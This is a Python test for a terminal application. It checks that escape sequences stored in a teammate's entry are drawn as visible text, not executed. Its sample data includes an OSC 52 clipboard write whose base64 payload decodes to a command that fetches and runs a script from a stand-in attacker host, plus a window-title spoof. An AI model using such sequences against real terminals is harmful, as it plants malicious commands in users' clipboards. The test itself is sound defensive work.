"""Stored text on screen is shown, never obeyed: a teammate's SEA entry carrying an OSC 52
clipboard write and a window-title sequence reaches the terminal as visible characters."""

from __future__ import annotations

from pathlib import Path

from screens.sea_list import SeaListScreen
from store.demo import DEMO_PASSPHRASE
from store.workspace import Change, Workspace
from tests.screens.app_support import demo_home, demo_source, make_app, open_with, settle, type_into  # noqa: F401
from tests.sync.conftest import sea

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;all agreed\x1b\\"


async def test_the_sea_list_shows_escape_sequences_as_text(demo_home: Path) -> None:
    ws = Workspace.open(demo_home, DEMO_PASSPHRASE)
    try:
        # Written below the local checks, which strip controls, as a teammate's version arrives.
        ws.write([Change("sea", sea(f"Quokkaesque review {OSC52}{TITLE}done."))])
    finally:
        ws.close()
    app = make_app(demo_home)
    async with app.run_test(size=(160, 40)) as pilot:
        await open_with(pilot, "s", SeaListScreen)
        await type_into(pilot, "#sea-filter", "quokkaesque")
        await pilot.pause(SeaListScreen.DEBOUNCE * 3)  # the filter runs after a quiet spell
        await settle(pilot)
        shown = app.export_screenshot()
    assert "Quokkaesque&#160;review" in shown  # the SVG writes spaces as &#160;
    assert "\u241b]52;c;" in shown  # ESC drawn as its control picture, the rest as plain text
    assert "\x1b" not in shown and "\x07" not in shown
